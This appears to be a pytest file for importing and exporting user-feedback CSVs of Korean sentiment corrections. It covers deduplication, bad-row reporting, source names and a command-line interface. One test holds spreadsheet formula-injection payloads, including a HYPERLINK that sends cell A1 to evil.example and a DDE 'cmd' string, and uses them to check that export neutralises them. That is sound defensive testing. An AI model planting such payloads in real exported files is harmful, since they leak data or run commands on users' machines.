"""The old system's user_feedback.csv: in as corrections of a stated source, out as data or for spreadsheets."""

import os
import subprocess
import sys
from pathlib import Path

import pytest
from alembic import command
from alembic.config import Config
from sqlalchemy import create_engine, select, text

from pipeline.files import DataFileError, read_csv
from pipeline.live.database import MIGRATIONS
from pipeline.live.records import Feedback
from pipeline.live.store import Store
from pipeline.live.tables import feedback
from pipeline.live.user_feedback import COLUMNS, SourceError, export_feedback, import_feedback


def rows_of(store: Store) -> list[tuple[str, int, str]]:
    query = select(feedback.c.text, feedback.c.label, feedback.c.source).order_by(feedback.c.id)
    with store.reading() as connection:
        return [tuple(row) for row in connection.execute(query)]


def old_file(folder: Path, *lines: str, header: str = "content,label") -> Path:
    path = folder / "user_feedback.csv"
    path.write_text("\n".join([header, *lines, ""]), encoding="utf-8-sig")
    return path


def test_rows_become_pending_corrections_of_a_stated_source(store: Store, tmp_path: Path) -> None:
    store.add_feedback(Feedback("앞서 온 것", 1))
    path = old_file(tmp_path, "버프 \u1109\u1165,2.0", '"노답, 진짜",부정')
    done = import_feedback(store, path)
    assert (done.rows, done.new, done.bad) == (2, 2, [])
    assert rows_of(store) == [
        ("앞서 온 것", 1, "anonymous"),
        ("버프 서", 2, "imported:user_feedback"),
        ("노답, 진짜", 0, "imported:user_feedback"),
    ]
    assert store.count_pending() == (0, 3)
    assert import_feedback(store, old_file(tmp_path, "글,1", header="text;label".replace(";", ",")), "옛-서버").new == 1
    assert rows_of(store)[-1] == ("글", 1, "imported:옛-서버")


def test_importing_again_adds_nothing_and_a_file_that_has_grown_its_new_rows(store: Store, tmp_path: Path) -> None:
    store.add_feedback(Feedback("글", 1))  # the same words of a visitor are another correction
    lines = ["글,1", "글,0", "글,1"]  # somebody who changed their mind twice
    assert import_feedback(store, old_file(tmp_path, *lines)).new == 3
    again = import_feedback(store, old_file(tmp_path, *lines))
    assert (again.rows, again.new) == (3, 0)
    assert "3 rows: 0 new corrections, 3 known before, 0 bad" in str(again)
    store.assign_archive(1)  # what is frozen is known, too
    assert import_feedback(store, old_file(tmp_path, *lines, "글,1", "새 글,2")).new == 2
    assert [row[:2] for row in rows_of(store)] == [
        ("글", 1),
        *[("글", 1), ("글", 0), ("글", 1)],
        *[("글", 1), ("새 글", 2)],
    ]


def test_bad_rows_are_listed_and_the_others_go_in(store: Store, tmp_path: Path) -> None:
    done = import_feedback(store, old_file(tmp_path, "글,3", ",1", '"두\n줄",1', "글,"))
    assert done.new == 1
    assert [line for line, _ in done.bad] == [2, 3, 6]
    assert "line 2: '3' is not a label: use 0 부정, 1 중립, 2 긍정" in str(done)
    assert "line 3: the text is empty" in str(done)


@pytest.mark.parametrize(
    ("lines", "header", "words"),
    [
        (("가,1", '"나,1'), "content,label", "line 3: a quote opens here and is never closed"),
        (("가,1,2",), "content,label", r"line 2: 3 field\(s\)"),
        (("가,1",), "글,label", r"lacks the column\(s\) text"),
    ],
)
def test_a_file_that_can_not_be_told_apart_is_refused_as_a_whole(
    store: Store, tmp_path: Path, lines: tuple[str, ...], header: str, words: str
) -> None:
    with pytest.raises(DataFileError, match=rf"user_feedback\.csv.*{words}"):
        import_feedback(store, old_file(tmp_path, *lines, header=header))
    assert rows_of(store) == []


@pytest.mark.parametrize("name", ["a b", "x" * 41, "a/b", "\u200b"])
def test_a_source_needs_a_name(store: Store, tmp_path: Path, name: str) -> None:
    with pytest.raises(SourceError, match="is no name for a source: give --source"):
        import_feedback(store, old_file(tmp_path, "가,1"), name)


def test_what_is_exported_is_exact_and_for_spreadsheets_harmless(store: Store, tmp_path: Path) -> None:
    texts = ['=HYPERLINK("http://evil.example/?"&A1,"클릭")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "평범한 글"]
    for words in texts:
        store.add_feedback(Feedback(words, 1))
    path = tmp_path / "user_feedback.csv"
    assert export_feedback(store, path) == 5
    assert [row["content"] for row in read_csv(path, COLUMNS)] == texts
    with Store(f"sqlite:///{tmp_path}/other.db") as other:
        assert import_feedback(other, path).new == 5
        assert [row[0] for row in rows_of(other)] == texts
    export_feedback(store, path, for_spreadsheet=True)
    assert [row["content"] for row in read_csv(path, COLUMNS)] == [*(f"'{words}" for words in texts[:4]), "평범한 글"]


def test_corrections_of_before_are_anonymous(tmp_path: Path) -> None:
    """A database that was made before corrections had a source."""
    url = f"sqlite:///{tmp_path}/old.db"
    config = Config()
    config.set_main_option("script_location", str(MIGRATIONS))
    engine = create_engine(url)
    with engine.begin() as connection:
        config.attributes["connection"] = connection
        command.upgrade(config, "0003")
        connection.execute(text("INSERT INTO feedback (created_at, text, label) VALUES ('2026-01-01', '글', 1)"))
    engine.dispose()
    with Store(url) as store:
        assert rows_of(store) == [("글", 1, "anonymous")]


def test_the_command(tmp_path: Path) -> None:
    environment = os.environ | {"DATABASE_URL": f"sqlite:///{tmp_path}/live.db"}

    def run(*arguments: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "pipeline.live.user_feedback", *arguments]
        return subprocess.run(command, env=environment, capture_output=True, text=True, check=False)

    done = run("import", str(old_file(tmp_path, "글,1", "글,9")), "--source", "old")
    assert done.returncode == 0, done.stderr
    assert "2 rows: 1 new corrections, 0 known before, 1 bad" in done.stdout
    assert "1 corrections written" in run("export", str(tmp_path / "out.csv"), "--for-spreadsheet").stdout
    wrong = run("import", str(tmp_path / "none.csv"))
    assert wrong.returncode == 1
    assert "none.csv is missing" in wrong.stderr
    assert "Traceback" not in wrong.stderr
